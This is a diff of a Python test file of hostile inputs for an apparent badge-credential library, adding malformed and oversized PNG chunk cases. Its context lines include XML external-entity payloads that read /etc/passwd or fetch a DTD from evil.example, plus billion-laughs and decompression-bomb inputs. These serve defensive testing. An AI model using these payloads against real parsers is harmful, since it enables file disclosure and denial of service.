@@ -1,10 +1,11 @@
-"""Attacks by drawings that carry a credential, or seem to."""
+"""Attacks by drawings and pictures that carry a credential, or seem to."""
 
 from __future__ import annotations
 
 import json
 from xml.sax.saxutils import escape
 
+from tests.sceau.formats.test_baking_png import chunk, itxt, png
 from tests.sceau.hostile.good import (
     PASSED,
     Attack,
@@ -28,12 +29,23 @@ LAUGHS = "<!DOCTYPE svg [<!ENTITY a0 'ha'>" + "".join(
 )
 EXTERNAL = '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
 PARAMETER = '<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>'
+UNREAD = refused(UnsupportedFormatError)
+KEYWORD = b"openbadgecredential\0"
+PIXEL_IN_XML = '<image href="data:image/png;base64,iVBORw0KGgo="/>'
 SVG = 'xmlns="http://www.w3.org/2000/svg"'
 INCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
 
 
 def filled(start: str, count: int, end: str = "") -> bytes:
     return f"<svg {SVG}>{start * count}{end}".encode()
+
+
+def baked(own_id: str = "") -> bytes:
+    return json.dumps(credential(**({"id": own_id} if own_id else {})), ensure_ascii=False).encode()
+
+
+def both_generations() -> bytes:
+    return png(itxt(baked()), itxt(b'{"type": "Assertion"}', b"openbadges"))
 
 
 def many_attributes() -> str:
@@ -158,6 +170,38 @@ ATTACKS = (
     Attack("400,000 attributes", intact(many_attributes), NOTHING),
     Attack("an attribute of 4 MB", intact(lambda: f'<svg {SVG} a="{"a" * 4_000_000}"/>'), NOTHING),
     Attack("100,000 entities by number", intact(lambda: svg("&#97;" * 100_000)), UNREADABLE),
+    # PNG
+    Attack("a picture as it is", intact(lambda: png(itxt(baked()))), PASSED),
+    Attack("a picture around a token", intact(lambda: png(itxt(token().encode()))), PASSED),
+    Attack(
+        "ten chunks that say different things",
+        intact(lambda: png(*(itxt(baked(f"urn:x:{number}")) for number in range(10)))),
+        NOTHING,
+    ),
+    Attack("ten chunks that say the same", intact(lambda: png(*[itxt(baked())] * 10)), NOTHING),
+    Attack("one credential, and one of Open Badges 2", intact(both_generations), NOTHING),
+    Attack(
+        "a second one after the end of the picture", intact(lambda: png(itxt(baked())) + itxt(b"{}")), PASSED
+    ),
+    Attack(
+        "a text that inflates to 20 MB", intact(lambda: png(itxt(b" " * 20_000_000, compressed=True))), UNREAD
+    ),
+    Attack(
+        "another kind of chunk than the standard says",
+        intact(lambda: png(chunk(b"tEXt", KEYWORD + baked()))),
+        UNREAD,
+    ),
+    Attack(
+        "a chunk that is longer than the picture", intact(lambda: png(b"\x7f\xff\xff\xffiTXt")), UNREADABLE
+    ),
+    Attack(
+        "a chunk that was changed and its sum was not",
+        intact(lambda: png(itxt(baked())).replace(b"Camille", b"Camilla")),
+        UNREADABLE,
+    ),
+    Attack("200,000 chunks", intact(lambda: png(chunk(b"tEXt", b"Comment\0x") * 200_000)), LARGE),
+    Attack("no chunk of the kind", intact(png), NOTHING),
+    Attack("a picture within the drawing's element", intact(lambda: svg(PIXEL_IN_XML)), NOTHING),
     # Baking
     Attack("to bake twice", raises(lambda: baking.bake_svg(svg(cdata()).decode(), b"{}")), UNREADABLE),
     Attack(
